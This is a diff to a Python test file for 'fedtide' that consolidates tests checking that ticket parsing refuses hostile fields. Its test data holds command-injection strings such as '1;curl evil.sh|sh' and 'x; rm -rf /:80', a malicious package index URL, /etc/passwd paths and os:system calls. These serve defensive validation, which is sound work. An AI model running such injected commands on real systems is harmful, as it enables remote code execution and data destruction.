@@ -7,7 +7,6 @@ from contextlib import suppress
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
-import numpy as np
 import pytest
 import tomli_w
 from hypothesis import given
@@ -127,142 +126,121 @@ def test_damaged_tickets_are_refused_or_the_same(data):
         assert found == ticket()
 
 
-@pytest.mark.parametrize(
-    ("changes", "said"),
-    [
-        ({"scheme": 2}, "scheme: found 2, but another version of fedtide made it; allowed: 1"),
-        ({"scheme": True}, "scheme: found True"),
-        ({"node": "../etc"}, "node: found '../etc'"),
-        ({"node": "-berlin"}, "node: found '-berlin'"),
-        ({"node": "Berlin"}, "node: found 'Berlin'"),
-        ({"clients": []}, "clients: found"),
-        ({"clients": [0, 0]}, "clients: found a value twice"),
-        ({"clients": [-1]}, "clients"),
-        ({"clients": list(range(5)) * 2}, "twice"),
-        ({"address": "fl.example.org"}, "address: found 'fl.example.org', allowed: HOST:PORT"),
-        ({"address": "a b:1"}, "address"),
-        ({"address": "-x:80"}, "address"),
-        ({"address": "x:99999"}, "address"),
-        ({"address": "x; rm -rf /:80"}, "address"),
-        ({"authority": "A" * 30_000}, "authority: found 30000 characters"),
-        ({"digest": "0123"}, "digest"),
-        ({"digest": "../../../../../.."}, "digest"),
-        ({"seed": -1}, "seed"),
-        ({"seed": 2**70}, "seed"),
-        ({"made": "yesterday"}, "made"),
-        ({"made": "2026-01-01T00:00:00"}, "made: .*with its zone"),
-        ({"versions": {"torch": "\x1b[2J"}}, "versions.torch: found .*, allowed: a version such as"),
-        ({"versions": {"\x1b[2J": "1"}}, "control character"),
-        (
-            {"versions": {"fedtide": "9 --extra-index-url https://evil.example/simple"}},
-            "versions.fedtide: found '9 --ex",
-        ),
-        ({"versions": {"fedtide": "1;curl evil.sh|sh"}}, "versions.fedtide: found"),
-        ({"versions": {"fedtide": "1$(id)"}}, "versions.fedtide: found"),
-        ({"versions": {"fedtide": "-r"}}, "versions.fedtide: found"),
-        ({"versions": {"fedtide": "1\n2"}}, "versions.fedtide: found"),
-        ({"versions": {"fedtide": ""}}, "versions.fedtide: found"),
-        ({"extra": 1}, "extra: unknown key"),
-        ({"study": {}}, "study: method"),
-        ({"study": []}, "study"),
-    ],
-)
-def test_hostile_tickets_are_refused(changes, said):
-    with pytest.raises(FedtideError, match=said):
-        Ticket.from_dict(sealed(**changes))
-
-
 ROWS = {"shape": [4], "dtype": "float32", "classes": 3, "labels": [], "columns": [], "source": {"kind": "npz"}}
-
-
-@pytest.mark.parametrize(
-    ("changes", "said"),
-    [
-        ({"shape": [10**9, 10**9]}, "100,000,000 numbers at most"),
-        ({"shape": [0]}, "rows.shape"),
-        ({"shape": [1] * 9}, "rows.shape"),
-        ({"dtype": "object"}, "rows.dtype"),
-        ({"classes": 10**12}, "rows.classes"),
-        ({"labels": ["a"]}, "1 names of 3 classes"),
-        ({"labels": ["a", "a", "b"]}, "twice"),
-        ({"columns": ["a"]}, "1 columns and rows of shape"),
-        (
-            {"source": {"kind": "python", "function": "os:system"}},
-            "rows.source.kind: found 'python', allowed: csv, npz",
-        ),
-        ({"source": {"kind": "npz", "path": "/etc/passwd"}}, "rows.source: found 'path'"),
-        ({"source": {"kind": "csv", "features": ["a"]}}, "rows.source: found 'features'"),
-        ({"source": {"kind": "csv", "label": 5}}, "rows.source"),
-        ({"source": {"kind": "csv", "cuts": [2.0, 1.0]}}, "rows.source.*rising"),
-        ({"source": {}}, "rows.source.kind: found None"),
-        ({"source": {"kind": ["csv"]}}, "rows.source.kind"),
-    ],
-)
-def test_hostile_descriptions_of_rows_are_refused(changes, said):
-    with pytest.raises(FedtideError, match=said):
-        Ticket.from_dict(sealed(rows=ROWS | changes))
-
-
 EVIL = {"kind": "python", "function": "os:system", "options": {"command": "touch /tmp/executed"}}
 
 
+def rows(**changes: Any) -> dict[str, Any]:
+    return {"rows": ROWS | changes}
+
+
+def source(kind: Any, **settings: Any) -> dict[str, Any]:
+    return rows(source={"kind": kind, **settings})
+
+
 def study(**changes: Any) -> dict[str, Any]:
-    return STUDY | changes
+    return {"study": STUDY | changes}
 
 
 def method(**changes: Any) -> dict[str, Any]:
     return study(method=[STUDY["method"][0] | changes])
 
 
-@pytest.mark.parametrize(
-    ("content", "said"),
-    [
-        (method(algorithm="os:system"), "a registered name, because tickets bring no code"),
-        (method(algorithm="fedtide.site.site:make_site"), "a registered name, because tickets bring no code"),
-        (method(loss=EVIL), "loss.*names no code"),
-        (method(cohort=EVIL), "cohort.*names no code"),
-        (method(init_from="/etc/passwd"), "init_from"),
-        (study(model=EVIL), "model.*names no code"),
-        (study(data={"source": EVIL}), "data.source"),
-        (study(metrics=["os:system"]), "metrics.*no such key in a ticket"),
-        (study(shift={"who": EVIL}), "shift.*no such key in a ticket"),
-        (study(devices=EVIL), "devices.*no such key"),
-        (study(method=STUDY["method"] * 2), "method"),
-        (study(data="python:os:system"), "data"),
-        (study(data={"directory": "/etc"}), "data.directory"),
-        (study(fleet={"kind": "ray", "address": "evil:1"}), "fleet.kind"),
-        (study(rounds=-1), "study: rounds: found -1"),
-    ],
-)
-def test_a_ticket_brings_no_code_and_opens_no_file(content, said, monkeypatch):
-    def never(*given: Any) -> None:
+def versions(fedtide: str) -> dict[str, Any]:
+    return {"versions": {"fedtide": fedtide}}
+
+
+HOSTILE: list[tuple[dict[str, Any], str]] = [
+    ({"scheme": 2}, "scheme: found 2, but another version of fedtide made it; allowed: 1"),
+    ({"scheme": True}, "scheme: found True"),
+    ({"node": "../etc"}, "node: found '../etc'"),
+    ({"node": "-berlin"}, "node: found '-berlin'"),
+    ({"node": "Berlin"}, "node: found 'Berlin'"),
+    ({"clients": []}, "clients: found"),
+    ({"clients": [0, 0]}, "clients: found a value twice"),
+    ({"clients": [-1]}, "clients"),
+    ({"address": "fl.example.org"}, "address: found 'fl.example.org', allowed: HOST:PORT"),
+    ({"address": "a b:1"}, "address"),
+    ({"address": "-x:80"}, "address"),
+    ({"address": "x:99999"}, "address"),
+    ({"address": "x; rm -rf /:80"}, "address"),
+    ({"authority": "A" * 30_000}, "authority: found 30000 characters"),
+    ({"digest": "0123"}, "digest"),
+    ({"digest": "../../../../../.."}, "digest"),
+    ({"seed": -1}, "seed"),
+    ({"seed": 2**70}, "seed"),
+    ({"made": "yesterday"}, "made"),
+    ({"made": "2026-01-01T00:00:00"}, "made: .*with its zone"),
+    ({"versions": {"torch": "\x1b[2J"}}, "versions.torch: found .*, allowed: a version such as"),
+    ({"versions": {"\x1b[2J": "1"}}, "control character"),
+    (versions("9 --extra-index-url https://evil.example/simple"), "versions.fedtide: found '9 --ex"),
+    *((versions(text), "versions.fedtide: found") for text in ("1;curl evil.sh|sh", "1$(id)", "-r", "1\n2", "")),
+    ({"extra": 1}, "extra: unknown key"),
+    ({"study": {}}, "study: method"),
+    ({"study": []}, "study"),
+    # descriptions of rows
+    (rows(shape=[10**9, 10**9]), "100,000,000 numbers at most"),
+    (rows(shape=[0]), "rows.shape"),
+    (rows(shape=[1] * 9), "rows.shape"),
+    (rows(dtype="object"), "rows.dtype"),
+    (rows(classes=10**12), "rows.classes"),
+    (rows(labels=["a"]), "1 names of 3 classes"),
+    (rows(labels=["a", "a", "b"]), "twice"),
+    (rows(columns=["a"]), "1 columns and rows of shape"),
+    (source("python", function="os:system"), "rows.source.kind: found 'python', allowed: csv, npz"),
+    (source("npz", path="/etc/passwd"), "rows.source: found 'path'"),
+    (source("csv", features=["a"]), "rows.source: found 'features'"),
+    (source("csv", label=5), "rows.source"),
+    (source("csv", cuts=[2.0, 1.0]), "rows.source.*rising"),
+    (rows(source={}), "rows.source.kind: found None"),
+    (source(["csv"]), "rows.source.kind"),
+    # code and files
+    (method(algorithm="os:system"), "a registered name, because tickets bring no code"),
+    (method(loss=EVIL), "loss.*names no code"),
+    (method(cohort=EVIL), "cohort.*names no code"),
+    (method(init_from="/etc/passwd"), "init_from"),
+    (study(model=EVIL), "model.*names no code"),
+    (study(data={"source": EVIL}), "data.source"),
+    (study(metrics=["os:system"]), "metrics.*no such key in a ticket"),
+    (study(shift={"who": EVIL}), "shift.*no such key in a ticket"),
+    (study(devices=EVIL), "devices.*no such key"),
+    (study(method=STUDY["method"] * 2), "method"),
+    (study(data="python:os:system"), "data"),
+    (study(data={"directory": "/etc"}), "data.directory"),
+    (study(fleet={"kind": "ray", "address": "evil:1"}), "fleet.kind"),
+    (study(rounds=-1), "study: rounds: found -1"),
+]
+
+
+@pytest.mark.parametrize(("changes", "said"), HOSTILE)
+def test_hostile_tickets_are_refused_and_bring_no_code(changes, said, monkeypatch):
+    def never(*args: Any) -> None:
         raise AssertionError("something was imported")
 
     monkeypatch.setattr("fedtide.fields.user_code.importlib.import_module", never)
     with pytest.raises(FedtideError, match=said):
-        Ticket.from_dict(sealed(study=content))
+        Ticket.from_dict(sealed(**changes))
 
 
-def test_what_nests_deeply_is_refused(tmp_path):
-    for text in ("study = " + "[" * 100_000, "study." + ".".join("a" * 3000) + " = 1"):
-        (tmp_path / "deep.ticket").write_text(f"scheme = 1\n{text}\n")
-        with pytest.raises(FedtideError, match=r"deep\.ticket: "):
-            Ticket.read(tmp_path / "deep.ticket")
-
-
-def test_what_is_no_ticket_is_refused(tmp_path):
-    for content in (
+@pytest.mark.parametrize(
+    "content",
+    [
         b"",
         b"\xff\xfe\x00",
         b"a = [",
         b"x" * 3_000_000,
         b"n = " + b"9" * 100_000,
-        bytes(np.arange(256, dtype=np.uint8)),
-    ):
-        (tmp_path / "x.ticket").write_bytes(content)
-        with pytest.raises(FedtideError, match=r"x\.ticket: ") as said:
-            Ticket.read(tmp_path / "x.ticket")
-        assert "\n" not in str(said.value)
+        bytes(range(256)),
+        b"scheme = 1\nstudy = " + b"[" * 100_000,
+        b"scheme = 1\nstudy." + b".".join([b"a"] * 3000) + b" = 1\n",
+    ],
+    ids=range(8),
+)
+def test_a_file_that_is_no_ticket_is_refused(tmp_path, content):
+    (tmp_path / "x.ticket").write_bytes(content)
+    with pytest.raises(FedtideError, match=r"x\.ticket: ") as said:
+        Ticket.read(tmp_path / "x.ticket")
+    assert "\n" not in str(said.value)
 
 
 def test_a_changed_ticket_is_noticed():
